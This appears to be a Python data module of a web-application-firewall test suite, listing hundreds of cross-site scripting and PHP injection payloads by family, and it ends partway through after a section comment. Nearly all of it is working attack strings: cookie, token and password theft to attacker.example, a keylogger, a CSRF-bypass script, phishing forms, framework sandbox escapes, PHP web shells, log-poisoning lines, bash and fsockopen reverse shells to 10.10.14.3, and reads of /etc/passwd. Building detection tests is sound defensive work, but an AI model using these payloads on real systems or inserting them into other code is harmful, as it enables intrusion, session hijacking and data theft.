"""Blind set "hundredeightyfourth": cross-site scripting and PHP injection the way security courses teach them,
with benign requests that carry the same words innocently.

The angle: security education, recalled from memory. Each payload is one a student meets in a course, a book, a
certification exam or an online academy: the textbook's worked example on the first page of the chapter, the lab
solution of an academy's exercise (reflected, stored and DOM labs, sandbox escapes, upload and deserialisation
labs), the exam candidate's crib-sheet line, the cheat sheet a teacher hands out, the university assignment's
expected answer, the workshop's exercise. After the basics come the "advanced" chapters: filter evasion (case,
nesting, whitespace, comments, encodings), context-specific payloads (attribute, JavaScript string, template
literal, CSS, URL), client-side template injection, mutation XSS, out-of-band exfiltration, second-order and
encoding chapters, disable_functions and open_basedir bypasses, wrappers and gadget chains. Every payload is a
working attack on the target its list's comment names (a browser, a client framework, the PHP interpreter, a
PHP application or product).

Families (category xss; one sub-family per detection title):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
  template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-client-template
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace /e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include),
  superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Upload names go as the file name of a
multipart upload (the file a PHP web shell); log-poisoning and session-injection lines go in User-Agent;
register_globals and prototype-pollution pairs go as raw `name=value` parameter names; a prototype-pollution
document goes as the whole JSON body. Payloads with control characters never go into headers, cookies, XML or the
path; payloads whose bytes are not UTF-8 (the soft hyphen of php-cgi, NOT-encoded function names) go as bytes.

Authorship and independence: written for this repository from general knowledge of each attack family, course
material and lab solutions as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredeightyfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UA_LINE = ("header:User-Agent", "rs-header:User-Agent")
UPLOAD = ("multipart-filename", "rs-multipart-filename")
PAIR = ("param-name", "rs-param-name")
JB = ("json-body", "rs-json-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-xss: the first payloads of every XSS chapter, short HTML that a tokenizer sees as markup
# target: the browser rendering a reflected parameter (Chrome, Firefox, Safari)
LIBINJECTION: list[Entry] = [
    # textbook, "finding XSS" section: the proof-of-concept probe in a search box, then the attribute break-out
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><svg/onload=confirm(1)>',
    # training app (low security level): a name field echoed in a greeting
    "<b onmouseover=alert('XSS')>hover here</b>",
    "<body onload=alert('XSS')>",
    # exam crib sheet: closing the element the input lands in first
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    # training app (medium level): str_replace('<script>', '') applied once, case-sensitive
    "<scr<script>ipt>alert(document.cookie)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    # training app (high level): the regex deletes any s.c.r.i.p.t sequence, so no script tag at all
    "<img src=/ onerror=alert(document.cookie)>",
    # academy lab, "most tags and attributes blocked": the tag and event that pass the allow-list
    "<details open ontoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<video><source onerror=alert(1)>",
    # book chapter "bypassing filters": no spaces between the tag and the attribute
    "<img/src/onerror=alert(1)>",
    "<svg\nonload=alert(1)>",
    # cheat sheet: the shortest payloads a teacher writes on the board
    "<svg onload=alert``>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]

# script-tag: <script> blocks, inline and remote, and the exfiltration they are taught with
# target: the browser parsing the reflected or stored script element
SCRIPT_TAG: list[Entry] = [
    # textbook worked example: stored XSS in a guestbook
    "<script>alert('Stored XSS')</script>",
    "<script>alert(document.cookie)</script>",
    # workshop exercise: load the attacker's hook script (BeEF-style) from another origin
    "<script src=https://attacker.example/hook.js></script>",
    "<script src=//attacker.example/x.js></script>",
    # academy lab "exploiting XSS to steal cookies": the collaborator receives the session cookie
    "<script>fetch('https://collab.attacker.example/?c='+btoa(document.cookie))</script>",
    "<script>new Image().src='https://attacker.example/log?c='+encodeURIComponent(document.cookie)</script>",
    "<script>document.location='http://attacker.example/steal.php?cookie='+document.cookie</script>",
    "<script>navigator.sendBeacon('https://attacker.example/b',localStorage.getItem('token'))</script>",
    # academy lab "exploiting XSS to bypass CSRF": read the token, then post the email change
    "<script>var r=new XMLHttpRequest();r.onload=function(){var t=this.responseText.match(/name=\"csrf\" "
    "value=\"(\\w+)\"/)[1];var c=new XMLHttpRequest();c.open('post','/my-account/change-email',true);"
    "c.send('csrf='+t+'&email=attacker@attacker.example')};r.open('get','/my-account',true);r.send()</script>",
    # academy lab "exploiting XSS to capture passwords": the browser's autofill hands over the credentials
    "<input name=username id=username><input type=password name=password onchange=\"fetch('https://attacker."
    "example/p',{method:'POST',mode:'no-cors',body:username.value+':'+this.value})\">",
    # course module on keyloggers
    "<script>document.onkeypress=function(e){new Image().src='//attacker.example/k?k='+e.key}</script>",
    # academy lab "reflected XSS into a JavaScript string": leave the script block, start a new one
    "</script><script>alert(1)</script>",
    # book chapter "filter evasion": data: source, attribute without quotes, no closing tag
    "<script src=data:,alert(1)></script>",
    "<script>alert(1)//",
    "<sCrIpT>alert(String.fromCharCode(88,83,83))</ScRiPt>",
    "<script type=\"text/javascript\">document.write('<img src=\"//attacker.example/?'+document.cookie+'\">')"
    "</script>",
    # cheat sheet "no parentheses": the error handler calls alert for us
    "<script>onerror=alert;throw 1</script>",
    "<script>{onerror=alert}throw 1337</script>",
    "<script>alert`XSS`</script>",
    # exam notes: base64 to hide the payload from a naive keyword filter
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
]

# event-handler: on* attributes that run script without a script tag
# target: the browser firing the event (load, error, focus, pointer, animation)
EVENT_HANDLER: list[Entry] = [
    # textbook: the image with a broken source, the one every course shows after <script>
    "<img src=x onerror=alert(document.domain)>",
    "<img src=x onerror=\"this.src='https://attacker.example/?'+document.cookie\">",
    # academy lab "body tag and resize event allowed": the exploit page resizes the frame
    "<body onresize=print()>",
    "<iframe src=\"https://vulnerable.example/?search=%22%3E%3Cbody%20onresize=print()%3E\" "
    "onload=this.style.width='100px'>",
    # academy lab "custom tags only": a made-up element focused through the URL fragment
    "<xss id=x onfocus=alert(document.cookie) tabindex=1>",
    "<custom-tag autofocus tabindex=1 onfocus=alert(1)>",
    # workshop on user-interaction events
    "<div onmouseover=\"alert('XSS')\">hover me</div>",
    "<p oncopy=alert(1)>copy this text</p>",
    "<div draggable=true ondragstart=alert(1)>drag me</div>",
    "<a onpointerenter=alert(1)>move the mouse here</a>",
    "<body onhashchange=alert(1)><a href=#done>click</a>",
    "<body onpageshow=alert(1)>",
    # media elements chapter
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(document.cookie)>",
    "<input type=image src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    # form controls chapter: autofocus fires without any click
    "<textarea autofocus onfocus=alert(1)>",
    "<input autofocus onblur=alert(1)><input autofocus>",
    "<form><button onclick=alert(document.domain)>Submit</button></form>",
    # evasion chapter: the handler body obfuscated
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
]

# attribute-vector: dangerous attributes (src, href, style, formaction, background) and attribute break-outs
# target: the browser, input reflected inside an attribute value
ATTRIBUTE: list[Entry] = [
    # academy lab "reflected XSS into attribute with angle brackets HTML-encoded": stay inside the tag
    '" autofocus onfocus=alert(document.domain) x="',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    # academy lab "XSS in canonical link tag": access key on a link element
    "'accesskey='x'onclick='alert(1)",
    # training course: the form button that overrides the form's action
    "<form><button formaction=javascript:alert(1)>Update profile</button></form>",
    "<input type=submit formaction=javascript:alert(document.cookie) value=Search>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>go</button>",
    # book, the old-browser section: script URLs in image and background attributes
    "<img src=\"javascript:alert('XSS')\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<body background=\"javascript:alert('XSS')\">",
    # HTML5 chapter: srcdoc holds a whole document
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    # workshop "clickjacking your own XSS": a full-page invisible link over everything
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
    "<a href=# style=\"display:block;position:fixed;inset:0\" onmouseover=alert(1)>x</a>",
    # exam notes: unquoted attribute, a space starts the next attribute
    "x onmouseover=alert(1)",
    "x/onfocus=alert(1)/autofocus/",
    # data URL in the href of a link (top-level navigation, older browsers)
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
    "<embed src=\"javascript:alert(1)\">",
]

# javascript-uri: script URLs in links, redirects and returnUrl parameters
# target: the browser following the URL (href sink, location assignment, jQuery attr())
JAVASCRIPT_URI: list[Entry] = [
    # academy lab "DOM XSS in jQuery anchor href sink": the returnPath parameter
    "javascript:alert(document.cookie)",
    "javascript:alert(1)",
    # academy lab "stored XSS into anchor href": the comment's website field
    "javascript:alert(document.domain)",
    # filter-evasion chapter: case, whitespace and control characters the URL parser strips
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    # the comment-then-newline trick for validators that want a URL shape
    "javascript://comment%0aalert(1)",
    "javascript://https://trusted.example/%0Aalert(document.domain)",
    # percent-decoding and JavaScript escapes inside the URL body
    "javascript:%61lert(1)",
    "javascript:\\u0061lert(1)",
    "javascript:alert%28document.cookie%29",
    # exfiltration and redirection from a javascript: link
    "javascript:fetch('//attacker.example/'+document.cookie)",
    "javascript:void(location='https://attacker.example/?'+document.cookie)",
    "javascript:eval(name)",
    "javascript:top['al'+'ert'](1)",
    "javascript:window.onerror=alert;throw 1",
    # the well-known polyglot from the evasion lecture (attribute, script, comment and URL contexts)
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    # the link a stored comment leaves behind
    "<a href=\"javascript:alert(document.cookie)\">my website</a>",
]

# html-injection: iframe/object/embed/base/meta/link/form elements that load, redirect or phish
# target: the browser (and the user reading the injected markup)
HTML_INJECTION: list[Entry] = [
    # lecture on HTML injection without script: a fake login form posting to the attacker
    "<form action=https://attacker.example/collect method=post><p>Session expired, log in again</p>"
    "<input name=user><input name=pass type=password><input type=submit value=Login></form>",
    "\"><form action=//attacker.example/c><input type=password name=p placeholder=Password><button>OK</button>",
    "<form action=javascript:alert(1)><input type=submit value=Continue></form>",
    # frames chapter
    "<iframe src=javascript:alert(document.domain)></iframe>",
    "<iframe src=\"https://attacker.example/phish.html\" style=\"position:fixed;inset:0;border:0\" "
    "width=100% height=100%></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    # plugin elements
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i"
    "YWxlcnQoZG9jdW1lbnQuZG9tYWluKSIvPg==\" type=\"image/svg+xml\">",
    "<object data=\"https://attacker.example/xss.swf\" type=\"application/x-shockwave-flash\">"
    "<param name=allowScriptAccess value=always></object>",
    # base-tag hijacking: every relative script after it loads from the attacker
    "<base href=\"https://attacker.example/\">",
    "<base href=\"javascript:alert(1)//\"><a href=/x>x</a>",
    # meta refresh redirects
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://attacker.example/login\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    # link elements
    "<link rel=stylesheet href=https://attacker.example/steal.css>",
    "<link rel=import href=https://attacker.example/x.html>",
    # academy lab "dangling markup": an unterminated attribute swallows the CSRF token into the attacker's URL
    "\"><img src='https://attacker.example/log?",
    "\"><a href=\"https://attacker.example/exploit\">Click me</a><base target='",
    # mutation XSS lecture: what a sanitizer sees differs from what the browser builds
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

# svg-mathml: foreign content, SVG animation and MathML links
# target: the browser's SVG/MathML parser (and SVG images served from the same origin)
SVG_MATHML: list[Entry] = [
    "<svg onload=alert(document.cookie)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=data:,alert(document.domain)></script></svg>",
    # academy lab "some SVG markup allowed"
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    # academy lab "SVG animate": the animate element writes a javascript: href into the link
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a>",
    "<svg><set attributeName=href xlink:href=#l to=javascript:alert(1) /><a id=l><text y=20>go</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3Zn"
    "Jz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"/></svg>",
    # file-upload lab: an SVG avatar opened from the site's own origin
    "<?xml version=\"1.0\" standalone=\"no\"?><svg xmlns=\"http://www.w3.org/2000/svg\" version=\"1.1\">"
    "<script type=\"text/javascript\">alert(document.domain);</script></svg>",
    "<svg viewBox=\"0 0 10 10\"><polyline points=\"0,0 10,10\" onmouseover=\"alert(1)\"/></svg>",
    # sanitizer-bypass lectures: foreign content changes how style and comments parse
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # MathML links (Firefox)
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
]

# css-expression: script through style sheets (IE expression(), behaviours, XBL) and CSS-driven events
# target: Internet Explorer 5-7 / old Firefox for the legacy ones, every current browser for the animation events
CSS_EXPRESSION: list[Entry] = [
    # book, legacy-browser appendix: CSS expressions evaluated as JavaScript
    "<div style=\"width:expression(alert(1))\">",
    "<img style=\"xss:expression(alert('XSS'))\">",
    "<style>*{x:expression(alert(document.cookie))}</style>",
    "expression(alert(document.domain))",
    # evasion chapter: comments and escapes split the keyword, the CSS parser joins it again
    "<xss style=\"xss:expr/**/ession(alert(1))\">",
    "<div style=\"xss:ex\\pression(alert(1))\">",
    "<div style=\"width:expr\\65ssion(alert(1))\">",
    # script URLs in style sheets (IE6, Netscape)
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    # behaviours and bindings that run script from a style
    "<div style=\"behavior:url(https://attacker.example/xss.htc)\">",
    "<div style=\"-moz-binding:url(https://attacker.example/xss.xml#xss)\">",
    # current browsers: CSS animations and transitions fire script events
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>",
    "<style>@keyframes s{from{left:0}to{left:1px}}</style><b style=\"animation:s 1s\" onanimationend=alert(1)>x",
    "<a id=x tabindex=1 style=\"transition:outline 1s\" ontransitionend=alert(1) autofocus>x</a>",
    # style-block break-out and CSS injection into a style attribute
    "red;}</style><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    # CSS injection lecture: attribute selectors leak a token one character at a time
    "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/leak?a)}</style>",
]

# template-literal-dom-sink: JavaScript-context and DOM-sink payloads (eval, innerHTML, document.write,
# jQuery selectors, postMessage, template literals, prototype pollution gadgets)
# target: the page's own JavaScript in the browser
DOM_SINK: list[Entry] = [
    # academy lab "reflected XSS into a template literal"
    "${alert(document.domain)}",
    "${fetch('//attacker.example/?c='+document.cookie)}",
    # academy labs "reflected XSS into a JavaScript string" (quotes, escaped quotes, HTML-encoded brackets)
    "';alert(document.domain)//",
    "'-alert(1)-'",
    "\\';alert(1)//",
    "</script><svg onload=alert(1)>",
    "';document.location='//attacker.example/?'+document.cookie;//",
    # academy lab "reflected DOM XSS": the JSON response goes through eval()
    "\\\"-alert(1)}//",
    # academy labs "DOM XSS in document.write": break out of the attribute and of a select element
    "\"><svg onload=alert(1)>",
    "\"></select><img src=1 onerror=alert(1)>",
    # academy lab "DOM XSS in innerHTML sink"
    "<img src=1 onerror=alert(document.domain)>",
    # academy lab "DOM XSS in jQuery selector sink using a hashchange event"
    "#<img src=x onerror=print()>",
    "<iframe src=\"https://vulnerable.example/#\" onload=\"this.src+='<img src=x onerror=print()>'\"></iframe>",
    # academy lab "DOM XSS using web messages"
    "<iframe src=\"https://vulnerable.example/\" onload=\"this.contentWindow.postMessage('<img src=1 "
    "onerror=print()>','*')\">",
    # JSONP callback chapter: the callback name is the script
    "alert(document.domain)//",
    # academy labs "DOM XSS via client-side prototype pollution": query-string gadgets and a JSON body
    ("__proto__[transport_url]=data:,alert(1);", *PAIR),
    ("constructor[prototype][innerHTML]=<img src=x onerror=alert(1)>", *PAIR),
    ("__proto__[sequence]=alert(1)-", *PAIR),
    ("{\"__proto__\":{\"srcdoc\":[\"<script>alert(1)</script>\"]}}", *JB),
    # eval sink: a bare expression
    "1;alert(document.cookie)",
]

# ie-filter-style: the markup Internet Explorer's XSS filter and NoScript were built against
# target: Internet Explorer 6-10 (VBScript, HTML+TIME, data binding, XML namespaces, conditional comments)
IE_FILTER: list[Entry] = [
    # VBScript URLs and handlers
    "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
    "<img src=\"vbscript:msgbox('XSS')\">",
    "<iframe src=\"vbscript:msgbox(1)\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=vbscript:msgbox(1)\">",
    # HTML+TIME behaviour
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS<script defer>alert(1)</script>\">",
    "<html xmlns:xss><?import namespace=\"xss\" implementation=\"https://attacker.example/xss.htc\">"
    "<xss:xss>XSS</xss:xss></html>",
    # data binding: an XML island rendered as HTML
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml><span datasrc=#x datafld=b "
    "dataformatas=html></span>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    # ActiveX and plugin objects
    "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=\"url\" "
    "value=\"javascript:alert(1)\"></object>",
    "<object classid=clsid:D27CDB6E-AE6D-11cf-96B8-444553540000><param name=movie "
    "value=https://attacker.example/xss.swf><param name=allowScriptAccess value=always></object>",
    "<applet code=\"Xss.class\" codebase=\"https://attacker.example/\"></applet>",
    # legacy elements
    "<isindex type=image src=1 onerror=alert(1)>",
    "<bgsound src=\"javascript:alert(1)\">",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<br size=\"&{alert(1)}\">",
    "<layer src=\"https://attacker.example/xss.html\"></layer>",
    # escaped keywords and the document-mode switch back to expression()
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=7\"><div style=\"x:expression(alert(1))\">",
    "<base href=\"javascript:alert('XSS');//\">",
]

# encoded-entity: HTML entities, JavaScript escapes, percent and charset encodings
# target: the browser decoding the value (and applications that decode twice)
ENCODED: list[Entry] = [
    # entities chapter: the browser decodes entities in attribute values before using the URL
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#49;&#41;\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(document.cookie)\">x</a>",
    "<svg><script>&#97;lert(1)</script></svg>",
    # JavaScript escapes chapter
    "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>",
    "<script>eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')</script>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\\u003csvg onload=alert(1)\\u003e",
    # URL-encoding chapter: decoded twice by the application (second-order decoding)
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    # charset chapter: UTF-7 (IE with no charset), fullwidth forms folded by NFKC normalisation
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
]

# angular-vue-client-template: client-side template injection and framework directives
# target: AngularJS 1.x (sandboxed before 1.6), Vue 2/3, Alpine.js, Knockout running in the browser
CLIENT_TEMPLATE: list[Entry] = [
    # academy lab "DOM XSS in AngularJS expression": {{ }} in a page with ng-app
    "{{$on.constructor('alert(1)')()}}",
    "{{constructor.constructor('alert(document.cookie)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('fetch(\"//attacker.example/?c=\"+document.cookie)')()}}",
    "<div ng-app>{{constructor.constructor('alert(document.domain)')()}}</div>",
    # sandbox-escape lecture, AngularJS 1.3/1.4
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    # academy lab "AngularJS sandbox escape without strings"
    "1&toString().constructor.prototype.charAt=[].join;[1]|orderBy:toString().constructor.fromCharCode"
    "(120,61,97,108,101,114,116,40,49,41)=1",
    # academy lab "AngularJS sandbox escape and CSP bypass"
    "<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(document.cookie)'>",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'></div>",
    # Vue chapter: the render helpers reach the Function constructor
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<p v-show=\"_c.constructor`alert(1)`()\">x</p>",
    "<x @click=_b.constructor`alert(document.domain)`()>click</x>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    # other client frameworks
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    "<div ng-app ng-csp><div ng-focus=\"x=$event;\" id=f tabindex=0>foo</div><div ng-repeat=\"(key, value) in "
    "x.view\"><div ng-if=\"key == 'window'\">{{ [1].reduce(value.alert, 1); }}</div></div></div>",
]

# ----------------------------------------------------------------------------------------------------------------
# php-open-tag: PHP code blocks written where the interpreter will later read them (uploads, log poisoning via
# LFI, template and cache files, eval of whole documents)
# target: the PHP interpreter (PHP 5-8; short and ASP-style tags where the course notes the old ini settings)
OPEN_TAG: list[Entry] = [
    # textbook one-liner web shells
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_GET['e'].' 2>&1'); ?>",
    "<?php passthru($_REQUEST['c']); ?>",
    "<?php echo '<pre>'.shell_exec($_GET['cmd']).'</pre>'; ?>",
    "<?= `$_GET[0]` ?>",
    "<?=system($_REQUEST['x']);?>",
    "<?php @eval($_POST['pass']);?>",
    # course notes on old configurations: short_open_tag, asp_tags and the script tag (PHP 5)
    "<? system($_GET['q']); ?>",
    "<script language=\"php\">system($_GET['cmd']);</script>",
    "<% system($_GET['cmd']); %>",
    "<%= `id` %>",
    # LFI chapter, log poisoning: the line lands in access.log, then the log is included
    ("Mozilla/5.0 <?php system($_GET['c']); ?>", *UA_LINE),
    ("<?php passthru('id'); ?>", *UA_LINE),
    # upload chapter: a GIF header in front of the code passes getimagesize()
    "GIF89a;<?php system($_GET['cmd']); ?>",
    "\x89PNG\r\n\x1a\n<?php echo shell_exec($_GET['c']); ?>",
    # exam crib sheet: reverse shells as PHP code
    "<?php $sock=fsockopen(\"10.10.14.3\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>",
    "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/10.10.14.3/4444 0>&1'\"); ?>",
    # reading files and the environment
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "<?php readfile('/flag.txt'); ?>",
    "<?php phpinfo(); ?>",
    "<?php var_dump(ini_get('disable_functions')); ?>",
    "<?php highlight_file(__FILE__); ?>",
    # dropping a second shell from the first
    "<?php file_put_contents('s.php','<?php system($_GET[0]);'); ?>",
    # evasion chapter: case, newline after the tag, encoded body, no closing tag
    "<?PHP SYSTEM($_GET['CMD']); ?>",
    "<?php\nsystem('id');",
    "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>",
    "<?php $c=$_GET['c'];echo `$c`;",
]

# php-function-call: code injection into eval()/assert()/create_function()/preg_replace /e, calling the
# command and code functions directly
# target: the PHP interpreter behind an eval-style sink (PHP 5.x for assert strings, create_function, /e)
FUNCTION_CALL: list[Entry] = [
    # eval() sink exercises: a statement appended to a calculator or config writer
    "system('id');",
    ";system('cat /etc/passwd');",
    "1;phpinfo();",
    "exec('id',$o);print_r($o);",
    "passthru('uname -a');",
    "echo shell_exec('ls -la /var/www');",
    "$h=popen('id','r');echo fread($h,4096);pclose($h);",
    "$p=proc_open('id',[1=>['pipe','w']],$io);echo stream_get_contents($io[1]);",
    "echo exec('whoami');",
    "exit(shell_exec('id'));",
    # string-context break-outs: the input sits inside quotes in the evaluated code
    "'.system('id').'",
    "\".passthru('id').\"",
    "');system('id');//",
    "1);system('id');//",
    # assert() chapter (PHP < 7.2 evaluates a string argument): the well-known LFI filter challenge
    "' and die(system('whoami')) or '",
    "' and die(show_source('/etc/passwd')) or '",
    "assert('system(\"id\")');",
    # complex curly syntax inside a double-quoted eval
    "${system('id')}",
    "{${phpinfo()}}",
    "{${system($_GET['c'])}}",
    # create_function() chapter: close the generated function body, run code, comment the rest
    "1;}system('id');/*",
    "$f=create_function('','system(\"id\");');$f();",
    # preg_replace /e chapter (PHP < 5.5): the replacement is evaluated as code
    "/(.*)/e",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "\\1{${system($_GET['c'])}}",
    # eval() inside eval
    "eval('system(\"whoami\");');",
    "eval($_POST[0]);",
]

# php-variable-functions: calling a function whose name is computed at runtime (strings, concatenation,
# encodings, callbacks), the filter-bypass chapter of every PHP code injection course
